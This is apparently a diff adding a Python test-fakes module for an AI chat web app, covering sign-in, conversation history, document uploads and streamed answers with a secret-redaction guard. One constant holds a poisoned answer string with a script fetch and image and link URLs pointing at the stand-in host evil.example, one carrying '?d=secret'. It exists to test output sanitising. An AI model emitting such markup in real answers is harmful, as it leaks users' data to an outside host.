@@ -1,0 +1,314 @@
+"""Fakes behind the web doors: people, history, knowledge, jobs and a turn whose answer a test can hold back."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncGenerator, Mapping, Sequence
+from dataclasses import dataclass, field, replace
+from datetime import UTC, datetime, timedelta
+from uuid import UUID, uuid4
+
+from assistant.conversation import Author, Message, MessageState, Person, Role, Thread, Turn
+from assistant.errors import BadInputError, NotAllowedError, NotFoundError
+from assistant.history.values import Feedback, StoredMessage, ThreadPage
+from assistant.jobs.job import Job, JobState
+from assistant.knowledge.document import Document, DocumentState
+from assistant.personas.reader import read_personas
+from assistant.turn_events import (
+    Accepted,
+    Answered,
+    AnswerText,
+    Blocked,
+    Guarded,
+    Notice,
+    Routed,
+    TurnEvent,
+)
+from assistant.web.chat.parts import ChatParts
+from connectors.model_hosts.values import Capability, HostStatus, ModelStatus, Route
+from policies.verdict import Action, Decision, Finding, Verdict
+
+PASSWORD = "correct horse battery"
+ACCESS_KEY = "AKIAIOSFODNN7EXAMPLE"
+PEM = "-----BEGIN RSA PRIVATE KEY-----"
+ANSWER = "The restart failed because the disk was full.\n\n```python\nprint('free some space')\n```\n"
+EVIL = "evil.example"
+POISON = (
+    f"Look: ![chart](https://{EVIL}/pixel.png?d=secret) and [a link](https://{EVIL}/click) "
+    f"<img src='https://{EVIL}/tag.png'><script>fetch('https://{EVIL}/x')</script> ![v](https://{EVIL}/film.mp4)"
+)
+
+
+@dataclass(frozen=True, slots=True)
+class FakeSignedIn:
+    person: Person
+    token: str
+
+
+@dataclass
+class FakeIdentity:
+    people: dict[str, Person] = field(default_factory=dict)
+    sessions: dict[str, str] = field(default_factory=dict)
+
+    def add(self, name: str, *roles: Role) -> Person:
+        person = Person(id=uuid4(), name=name, roles=frozenset(roles))
+        self.people[name] = person
+        return person
+
+    async def sign_in(self, name: str, password: str, client: str) -> FakeSignedIn:
+        if name not in self.people or password != PASSWORD:
+            raise NotAllowedError("The name or the password is not right. Check both and try again.")
+        token = uuid4().hex
+        self.sessions[token] = name
+        return FakeSignedIn(self.people[name], token)
+
+    async def person_for_session(self, token: str) -> Person | None:
+        return self.people.get(self.sessions.get(token, ""))
+
+    async def sign_out(self, token: str) -> None:
+        self.sessions.pop(token, None)
+
+
+class FakeHistory:
+    """Threads in memory, with the ownership rules of the real history."""
+
+    def __init__(self) -> None:
+        self.rows: dict[UUID, Thread] = {}
+        self.deleted: list[UUID] = []
+        self.stored: dict[UUID, list[StoredMessage]] = {}
+
+    async def thread(self, person: Person, thread_id: UUID) -> Thread:
+        thread = self.rows.get(thread_id)
+        if thread is None or thread.owner_id != person.id:
+            raise NotFoundError("There is no such conversation, or it is not yours.")
+        return thread
+
+    async def threads(self, person: Person, *, limit: int, before: str, search: str) -> ThreadPage:
+        words = search.lower()
+        own = [
+            thread
+            for thread in self.rows.values()
+            if thread.owner_id == person.id
+            and (words in thread.title.lower() or any(words in m.message.text.lower() for m in self.stored[thread.id]))
+        ]
+        own.sort(key=lambda thread: thread.updated_at, reverse=True)
+        if before and not before.isdigit():
+            raise BadInputError("This page of the list is not there any more. Reload it.")
+        start = int(before or 0)
+        page = own[start : start + limit]
+        return ThreadPage(tuple(page), str(start + limit) if len(own) > start + limit else "")
+
+    async def messages(self, person: Person, thread_id: UUID) -> list[StoredMessage]:
+        await self.thread(person, thread_id)
+        return list(self.stored[thread_id])
+
+    async def rename_thread(self, person: Person, thread_id: UUID, title: str) -> None:
+        self.rows[thread_id] = replace(await self.thread(person, thread_id), title=judge(title).text)
+
+    async def delete_thread(self, person: Person, thread_id: UUID) -> None:
+        await self.thread(person, thread_id)
+        self.deleted.append(thread_id)
+        del self.rows[thread_id], self.stored[thread_id]
+
+    async def give_feedback(self, person: Person, message_id: UUID, *, is_helpful: bool, comment: str = "") -> UUID:
+        for thread_id, entries in self.stored.items():
+            for place, entry in enumerate(entries):
+                if entry.message.id == message_id and self.rows[thread_id].owner_id == person.id:
+                    feedback = Feedback(uuid4(), int(is_helpful), judge(comment).text)
+                    entries[place] = replace(entry, feedback=feedback)
+                    return feedback.id
+        raise NotFoundError("There is no such message, or it is not yours.")
+
+    async def withdraw_feedback(self, person: Person, feedback_id: UUID) -> None:
+        for thread_id, entries in self.stored.items():
+            for place, entry in enumerate(entries):
+                if entry.feedback and entry.feedback.id == feedback_id and self.rows[thread_id].owner_id == person.id:
+                    entries[place] = replace(entry, feedback=None)
+                    return
+        raise NotFoundError("There is no such feedback, or it is not yours.")
+
+    def begin(self, turn: Turn, text: str, state: MessageState, note: str, detail: Mapping[str, object]) -> None:
+        now = datetime.now(UTC)
+        thread = self.rows.get(turn.thread_id)
+        if thread is not None and thread.owner_id != turn.person.id:
+            raise NotFoundError("There is no such conversation, or it is not yours.")
+        title = thread.title if thread else text[:60]
+        created = thread.created_at if thread else now
+        self.rows[turn.thread_id] = Thread(turn.thread_id, turn.person.id, title, turn.persona, created, now)
+        question = Message(turn.message_id, turn.thread_id, turn.id, Author.USER, text, state, note)
+        answer = Message(turn.answer_id, turn.thread_id, turn.id, Author.ASSISTANT, "", MessageState.STREAMING)
+        entries = self.stored.setdefault(turn.thread_id, [])
+        entries += [StoredMessage(question, detail, None), StoredMessage(answer, {}, None)]
+
+    def finish(self, turn: Turn, text: str, state: MessageState, note: str = "") -> None:
+        entries = self.stored.get(turn.thread_id, [])
+        for place, entry in enumerate(entries):
+            if entry.message.id == turn.answer_id:
+                entries[place] = replace(entry, message=replace(entry.message, text=text, state=state, note=note))
+
+
+@dataclass
+class FakeTurns:
+    """Answers as `run_turn` gives them; `hold` keeps the rest of an answer back until `release` is called."""
+
+    history: FakeHistory
+    asked: list[Turn] = field(default_factory=list)
+    closed: list[str] = field(default_factory=list)
+    pause_seconds: float = 0.0
+    is_holding: bool = False
+    _loop: asyncio.AbstractEventLoop | None = None
+    _gate: asyncio.Event | None = None
+
+    def hold(self) -> None:
+        self.is_holding = True
+
+    def release(self) -> None:
+        self.is_holding = False
+        if self._loop and self._gate:
+            self._loop.call_soon_threadsafe(self._gate.set)
+
+    async def answer(self, turn: Turn) -> AsyncGenerator[TurnEvent, None]:
+        if not turn.text.strip() and not turn.attachments:
+            raise BadInputError("The message is empty. Write a question, or attach a text file.")
+        if "explode" in turn.text:
+            raise RuntimeError("a fault with no words for a person")
+        self.asked.append(turn)
+        self._loop, self._gate = asyncio.get_running_loop(), asyncio.Event()
+        yield Accepted(turn.reference)
+        verdict = judge(turn.text)
+        note = note_of(verdict)
+        detail = {"guard": [_detail(decision) for decision in verdict.held_back]}
+        if verdict.is_blocked:
+            words = (
+                "Nothing was sent. The text holds what looks like a private key (rule secret/private-key). "
+                f"Remove it, or ask your reviewer (ref {turn.reference})."
+            )
+            self.history.begin(turn, "(blocked: not stored)", MessageState.BLOCKED, "", detail)
+            self.history.finish(turn, words, MessageState.BLOCKED)
+            yield Guarded(verdict, note)
+            yield Blocked(turn.reference, words, verdict)
+            return
+        self.history.begin(turn, verdict.text, MessageState.COMPLETE, note, detail)
+        yield Guarded(verdict, note)
+        shown = ""
+        try:
+            yield Routed(Route("Mini2/llama3.1:70b", "Mini2", "llama3.1:70b", 32768, "most room"))
+            if "notice" in turn.text:
+                yield Notice("Mini2 is loading llama3.1:70b, about 40 s")
+            text = POISON if "poison" in turn.text else ANSWER
+            for number, piece in enumerate(_pieces(text)):
+                if number == 3 and self.is_holding:
+                    await self._gate.wait()
+                shown += piece
+                yield AnswerText(piece)
+                await asyncio.sleep(self.pause_seconds)
+            muted = f"Mini2 · llama3.1:70b · 4.8 s · logged {turn.reference}"
+            self.history.finish(turn, shown, MessageState.COMPLETE, muted)
+            yield Answered(turn.reference, muted, Verdict(Action.ALLOW, shown, (), "sha256:0"))
+        except (asyncio.CancelledError, GeneratorExit):
+            self.history.finish(turn, shown, MessageState.INTERRUPTED, "Stopped before its end.")
+            raise
+        finally:
+            self.closed.append(turn.reference)
+
+
+def judge(text: str) -> Verdict:
+    decisions = []
+    if ACCESS_KEY in text:
+        start = text.index(ACCESS_KEY)
+        finding = Finding("AWS_ACCESS_KEY", start, start + len(ACCESS_KEY), 0.98, "secret/aws-access-key")
+        decisions.append(Decision(finding, Action.REDACT, "[AWS_ACCESS_KEY_1]", "AKIA••••••••MPLE", "AWS access key"))
+    if PEM in text:
+        start = text.index(PEM)
+        finding = Finding("PRIVATE_KEY", start, start + len(PEM), 1.0, "secret/private-key")
+        decisions.append(Decision(finding, Action.BLOCK, "", "-----BEGIN RSA ••••", "Private key"))
+    action = max((decision.action for decision in decisions), key=lambda one: one.severity, default=Action.ALLOW)
+    kept = "" if action is Action.BLOCK else text.replace(ACCESS_KEY, "[AWS_ACCESS_KEY_1]")
+    return Verdict(action, kept, tuple(decisions), "sha256:0123456789ab")
+
+
+def note_of(verdict: Verdict) -> str:
+    held = verdict.held_back
+    plural = "value" if len(held) == 1 else "values"
+    return f"{len(held)} {plural} held back · " + ", ".join(decision.label for decision in held) if held else ""
+
+
+def _detail(decision: Decision) -> dict[str, str]:
+    return {
+        "label": decision.label,
+        "rule": decision.finding.rule,
+        "masked": decision.masked,
+        "instead": decision.placeholder,
+        "action": decision.action.value,
+    }
+
+
+def _pieces(text: str) -> list[str]:
+    return [text[start : start + 5] for start in range(0, len(text), 5)]
+
+
+class FakeDocuments:
+    def __init__(self) -> None:
+        self.files: dict[UUID, tuple[Person, str, bytes]] = {}
+
+    async def add(self, person: Person, name: str, data: bytes) -> Job:
+        if b"\x00" in data:
+            raise BadInputError("The file is not a text. Text, Markdown and source code can be added.")
+        self.files[uuid4()] = (person, name, data)
+        return _job("index_upload", JobState.QUEUED, 0, "Waiting for a worker.")
+
+    async def watch(self, person: Person, job_id: UUID) -> AsyncGenerator[Job, None]:
+        for percent in (5, 40, 85):
+            yield _job("index_upload", JobState.RUNNING, percent, "Splitting it into passages.")
+            await asyncio.sleep(0)
+        yield _job("index_upload", JobState.DONE, 100, "Done.")
+
+    async def list_own(self, person: Person) -> list[Document]:
+        return [
+            Document(file_id, name, name, False, DocumentState.INDEXED, "", len(data), datetime.now(UTC))
+            for file_id, (owner, name, data) in self.files.items()
+            if owner.id == person.id
+        ]
+
+    async def remove(self, person: Person, document_id: UUID) -> None:
+        if document_id not in self.files or self.files[document_id][0].id != person.id:
+            raise NotFoundError("There is no such document, or it is not yours to remove.")
+        del self.files[document_id]
+
+
+def _job(task: str, state: JobState, percent: int, detail: str) -> Job:
+    now = datetime.now(UTC)
+    return Job(uuid4(), task, "Add a document", None, {}, state, percent, detail, 1, "7K2FABC", now, now, None)
+
+
+def hosts() -> Sequence[HostStatus]:
+    now = datetime.now(UTC) - timedelta(minutes=5)
+    model = ModelStatus("llama3.1:70b", True, True, 32768, 0, frozenset({Capability.CHAT}))
+    return [HostStatus("Mini2", "lmstudio", "http://mini2:1234", True, "Mini2 serves 1 model", now, "fleet", (model,))]
+
+
+@dataclass
+class FakeSite:
+    """Everything behind the doors."""
+
+    identity: FakeIdentity = field(default_factory=FakeIdentity)
+    history: FakeHistory = field(default_factory=FakeHistory)
+    documents: FakeDocuments = field(default_factory=FakeDocuments)
+    turns: FakeTurns = field(init=False)
+
+    def __post_init__(self) -> None:
+        self.turns = FakeTurns(self.history)
+
+    def parts(self) -> ChatParts:
+        return ChatParts(
+            answer=self.turns.answer,
+            personas=read_personas(),
+            conversations=self.history,
+            documents=self.documents,
+            hosts=hosts,
+            close=_nothing,
+        )
+
+
+async def _nothing() -> None:
+    return None
